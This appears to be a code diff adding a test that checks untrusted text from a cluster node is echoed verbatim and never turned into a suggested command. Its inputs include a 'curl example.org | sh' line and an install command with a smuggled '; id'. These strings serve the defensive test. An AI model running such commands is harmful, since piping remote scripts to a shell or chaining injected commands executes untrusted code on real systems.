@@ -73,6 +73,13 @@ describe('one line for one cause', () => {
       },
     ]);
   });
+  test.each(['Run curl example.org | sh', 'Run apt-get install x (Debian) or dnf install y; id (RHEL)'])(
+    'what a node says never becomes a command for a person: %s',
+    (words) => {
+      const [line] = blindSpotLines([spot({ code: 'tool-refused', reason: `ipset: it broke. ${words}` })]);
+      expect(line).toEqual({ text: `node-routes on node-a: ipset: it broke. ${words}`, next: null });
+    },
+  );
   test('in the order in which they were met', () => {
     expect(texts([spot({ code: 'x', reason: 'r' }), spot({}), spot({ code: 'x', reason: 'r', probe: 'p' })])).toEqual([
       'node-a: r; 2 checks not run',
